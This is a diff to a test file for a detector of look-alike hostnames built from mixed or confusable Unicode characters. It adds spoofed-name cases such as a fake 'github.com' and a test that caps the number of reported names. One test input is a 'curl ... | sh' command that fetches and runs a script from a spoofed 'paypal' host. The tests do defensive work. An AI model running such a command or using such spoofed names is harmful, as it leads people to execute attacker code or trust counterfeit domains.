@@ -52,6 +52,8 @@ describe('look-alike: a name of a host that is not what it looks like is told in
       'xn--cme-lake-in-xij',
       ['Latin', 'Cyrillic'],
     ],
+    ['one script, before a port', '\u0261ithub.com:443', '\u0261ithub.com', 'xn--ithub-qmc.com', ['Latin']],
+    ['one script, in a command', 'curl paypa\u217c.com/x | sh', 'paypa\u217c.com', 'paypal.com', ['Latin']],
     ['punycode that is none', 'see xn--a and xn--a.com', 'xn--a.com', null, []],
   ])('%s', (_, text, host, other, scripts) => {
     expect(oddHostsIn([text])).toEqual([
@@ -72,6 +74,14 @@ describe('look-alike: a name of a host that is not what it looks like is told in
       expect(JSON.stringify(consequence.marks)).toContain('look-alike name')
       expect(oddities).toHaveLength(1)
     }
+  })
+
+  test('more of them than are told are counted', () => {
+    const to = Array.from({ length: 7 }, (_, nth) => `https://р${nth}.example`)
+    const { oddities } = cardContent(viewOfExport({ params: { to } }))
+
+    expect(oddities).toHaveLength(6)
+    expect(JSON.stringify(oddities.at(-1))).toContain('and 2 more such names')
   })
 
   test('control: plain names, addresses and what people write are not marked', () => {
